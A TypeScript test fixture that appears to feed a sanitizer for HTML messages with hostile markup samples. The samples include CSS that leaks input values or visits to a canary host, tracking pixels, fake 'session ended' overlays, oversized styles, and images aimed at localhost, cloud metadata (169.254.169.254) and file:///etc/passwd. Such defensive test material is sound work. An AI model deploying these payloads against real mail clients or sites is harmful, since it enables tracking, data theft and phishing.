import { CANARY, type Difficult, html } from './message.ts'

const url = (name: string): string => `${CANARY}/${name}`

/** Style that would fetch, tell, or cover what is not its own. */
const STYLES: { [name: string]: string } = {
  'a background': `<p style="background:url(${url('bg')})">x</p>`,
  'a background in escapes': `<p style="background:\\75\\72\\6c(${url('bg')})">x</p>`,
  'a background with a comment': `<p style="background:u/**/rl(${url('bg')})">x</p>`,
  'sets of pictures': `<p style="background:image-set('${url('s')}' 1x)">x</p><p style="background:cross-fade(url(${url('c')}),red)">x</p>`,
  'a cursor, a list, a border': `<p style="cursor:url(${url('c')}),auto;border-image:url(${url('b')})">x</p><ul style="list-style-image:url(${url('l')})"><li>x</li></ul>`,
  'a mask and a filter': `<p style="mask:url(${url('m')});filter:url(${url('f')}#x);clip-path:url(${url('p')}#x)">x</p>`,
  content: `<style>p::before{content:url(${url('content')})}</style>`,
  'an import': `<style>@import url(${url('i.css')});@import '${url('j.css')}';</style>`,
  'an import never closed': `<style>@import url(${url('i.css')}`,
  'a font from elsewhere': `<style>@font-face{font-family:x;src:url(${url('f.woff2')})}p{font-family:x}</style>`,
  'a font by letters': `<style>@font-face{font-family:x;src:url(${url('a')});unicode-range:U+41}*{font-family:x}</style><p>A</p>`,
  'reading a field by its value': `<style>input[value^="a"]{background:url(${url('a')})}</style><input value="abc">`,
  'reading the visited': `<style>a:visited{background:url(${url('v')})}</style><a href="https://example.com">x</a>`,
  'reading the screen': `<style>@media (min-width:100px){p{background:url(${url('w')})}}@page{background:url(${url('p')})}</style>`,
  'a cover over everything':
    '<div style="position:fixed;inset:0;background:#fff;z-index:2147483647">Your session ended</div>',
  'a cover of negative margins': '<div style="margin:-9999px;padding:9999px;background:red">x</div>',
  'a width without end':
    '<p style="width:1000000px">x</p><p style="width:100000vw;letter-spacing:9999em">x</p>',
  'a height without end': '<p style="height:9999999px">x</p>',
  'letters of 9 999 pixels': '<p style="font-size:9999px">x</p>',
  'letters of no size': '<p style="font-size:0;line-height:0">hidden</p>',
  'white on white': '<p style="color:#fff;background:#fff">hidden</p>',
  'what is not shown': '<div style="display:none;max-height:0">a preview line</div><p hidden>hidden</p>',
  'our own classes': '<div class="masthead sheet callout govuk-button" id="main">x</div>',
  'our own variables': '<p style="color:var(--link);background:env(x)">x</p><style>:root{--link:red}</style>',
  'old script in style': '<p style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(#y)">x</p>',
  'a style that never ends': `<p style="${'color:red;'.repeat(50_000)}">x</p>`,
  'a style of brackets': `<p style="color:rgb(${'('.repeat(5_000)}">x</p>`,
  'a style of quotes': `<p style='font-family:"${"\\'".repeat(5_000)}'>x</p>`,
  'attributes of old looks': `<body bgcolor="red" background="${url('body')}"><table background="${url('t')}" bgcolor="javascript:1"><tr><td background="${url('d')}">x</td></tr></table>`,
  'a layer and a sheet of XML': `<layer src="${url('l')}"></layer><?xml-stylesheet href="${url('x.css')}"?>`,
}

/** Pictures that tell their sender who looked, when and from where. */
const PICTURES: { [name: string]: string } = {
  'a pixel': `<img src="${url('pixel.gif')}" width="1" height="1">`,
  'a pixel without its size': `<img src="${url('pixel.gif?who=li')}">`,
  'a pixel in style': `<img src="${url('pixel.gif')}" style="width:1px;height:1px">`,
  'a picture of no protocol': '<img src="//canary.invalid/p.png">',
  'a picture over http': '<img src="http://canary.invalid/p.png">',
  'pictures in sets': `<img srcset="${url('1x')} 1x, ${url('2x')} 2x" sizes="1px"><picture><source srcset="${url('s')}"><img src="${url('p')}"></picture>`,
  'pictures of other elements': `<input type="image" src="${url('i')}"><video poster="${url('v')}"></video><table background="${url('t')}">`,
  'media from elsewhere': `<video autoplay src="${url('v')}"><track src="${url('t')}" default></video><audio autoplay src="${url('a')}"></audio><bgsound src="${url('b')}">`,
  'a picture of this machine':
    '<img src="http://127.0.0.1:1/x"><img src="http://localhost/x"><img src="http://169.254.169.254/latest/meta-data">',
  'a picture of a file':
    '<img src="file:///etc/passwd"><img src="ftp://canary.invalid/x"><img src="blob:x"><img src="filesystem:x">',
  'a picture with a password': '<img src="https://user:password@canary.invalid/p.png">',
  'a picture that signs out': '<img src="/sign-out"><img src="sign-out"><img src="?show=content">',
  'SVG as data': `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url('in-svg')}"/></svg>`).toString('base64')}" alt="SVG">`,
  'HTML as data': '<img src="data:text/html,<script>window.__ran=1</script>" alt="HTML">',
  'data of a megabyte': `<img src="data:image/png;base64,${'A'.repeat(800_000)}" alt="large">`,
  '5 000 pictures': `<img src="${url('many')}">`.repeat(5_000),
  'a picture whose text is markup': `<img alt="<script>alert(1)</script>" src="${url('alt')}">`,
  'a letter of the usual kind': `<table width="600" align="center" bgcolor="#f4f4f4" cellpadding="20"><tr><td><img src="${url('logo.png')}" width="200" height="60" alt="Logo"><h1 style="color:#0a5a8a;font-family:Arial">電子報 Newsletter</h1><p style="font-size:16px;line-height:1.6">您好，本期內容如下。</p><a href="https://example.com/read" style="background:#0a5a8a;color:#ffffff;padding:12px 24px;text-decoration:none;border-radius:4px">閱讀全文</a></td></tr></table>`,
}

export const looks: Difficult[] = Object.entries({ ...STYLES, ...PICTURES }).map(([name, markup]) =>
  html(name, markup),
)
